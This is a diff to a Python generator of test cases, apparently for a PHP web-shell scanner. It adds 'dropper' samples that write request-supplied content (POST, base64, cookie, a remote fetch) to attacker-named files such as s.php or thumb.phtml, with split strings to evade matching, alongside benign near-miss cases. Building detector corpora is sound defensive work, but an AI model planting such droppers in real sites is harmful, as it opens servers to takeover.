@@ -410,6 +410,51 @@ def hit_cases() -> Iterator[Case]:
             index += 1
 
 
+# --- small droppers: a file written from the request ----------------------------------------------
+FPC = t("file_put", "_contents")
+MUF = t("move_uploaded", "_file")
+DROP_NAMES = {  # statements before, expression of the target file
+    "name-get": ("", f"{G}['n']"),
+    "name-post": ("", f"{P}['n']"),
+    "name-var": (f"$n = {R}['n'];\n", "$n"),
+    "name-php": ("", "'s.php'"),
+    "name-dir-php": ("", "__DIR__ . '/images/thumb.phtml'"),
+    "name-split": ("", "'x' . '.ph' . 'p'"),
+}
+DROP_CONTENTS = {
+    "post": f"{P}['d']",
+    "b64": f"{B64D}({P}['d'])",
+    "input": f"file_get_contents('{INPUT}')",
+    "remote": "file_get_contents('http://example.invalid/s.txt')",
+    "cookie": f"{C}['d']",
+}
+UPLOAD_FROM, UPLOAD_TMP = "['d']", "['f']['tmp_name']"
+DROP_SINKS: dict[str, Callable[[str, str], str]] = {
+    "file_put_contents": lambda n, c: f"@{FPC}({n}, {c});",
+    "fwrite": lambda n, c: f"$h = fopen({n}, 'w');\nfwrite($h, {c});\nfclose($h);",
+    "fputs": lambda n, c: f"@fputs(fopen({n}, 'wb'), {c});",
+    "copy": lambda n, c: f"@copy({c.replace(P + UPLOAD_FROM, t('$_FI', 'LES') + UPLOAD_TMP)}, {n});",
+    "move_uploaded_file": lambda n, c: f"@{MUF}({t('$_FI', 'LES')}['f']['tmp_name'], {n});",
+}
+
+
+def dropper_cases(start: int) -> Iterator[Case]:
+    index = start
+    names, contents = list(DROP_NAMES), list(DROP_CONTENTS)
+    wrappers = cycle(WRAPPERS)
+    for s_i, sink in enumerate(DROP_SINKS):
+        for n_i, name in enumerate(names):
+            content = contents[(s_i + n_i) % len(contents)]
+            if sink in ("copy", "move_uploaded_file") and name in ("name-php", "name-dir-php", "name-split"):
+                content = "post"  # an uploaded file kept under an executable name
+            before, target = DROP_NAMES[name]
+            body = before + DROP_SINKS[sink](target, DROP_CONTENTS[content]) + "\necho 'ok';"
+            text = _wrap(next(wrappers), body)
+            variant = f"dropper={sink} name={name} content={content}"
+            yield Case("php.dropper", variant, "php", f"d{index:04d}.php", text.encode("latin-1"))
+            index += 1
+
+
 # --- near misses: the same words in benign code ----------------------------------------------------
 NEAR_MISSES: dict[str, tuple[str, ...]] = {  # name -> lines of a benign file
     "escaped-output": (f"echo htmlspecialchars({G}['q'] ?? '', ENT_QUOTES, 'UTF-8');",),
@@ -466,11 +511,21 @@ NEAR_MISSES: dict[str, tuple[str, ...]] = {  # name -> lines of a benign file
     ),
     "date-format": ("$f = 'Y' . '-m-d';", f"echo date($f, (int) ({G}['ts'] ?? time()));"),
     "padded-benign": (benign_code(60_000)[len("<?php\n") :],),
+    "visit-log": (f"{FPC}(__DIR__ . '/visits.log', date('c') . ' ' . ({G}['page'] ?? '') . \"\\n\", FILE_APPEND);",),
+    "random-upload": (
+        "$name = bin2hex(random_bytes(8)) . '.jpg';",
+        f"{MUF}({t('$_FI', 'LES')}['f']['tmp_name'], __DIR__ . '/uploads/' . $name);",
+    ),
+    "cache-write": (
+        f"$id = (int) {G}['id'];",
+        f"{FPC}(__DIR__ . '/cache/' . $id . '.json', json_encode(['id' => $id]));",
+    ),
 }
 
 
 def cases() -> Iterator[Case]:
     yield from hit_cases()
+    yield from dropper_cases(5000)
     for name, lines in NEAR_MISSES.items():
         text = "<?php\n" + "\n".join(lines) + "\n"
         for wrapper in ("plain", "html"):
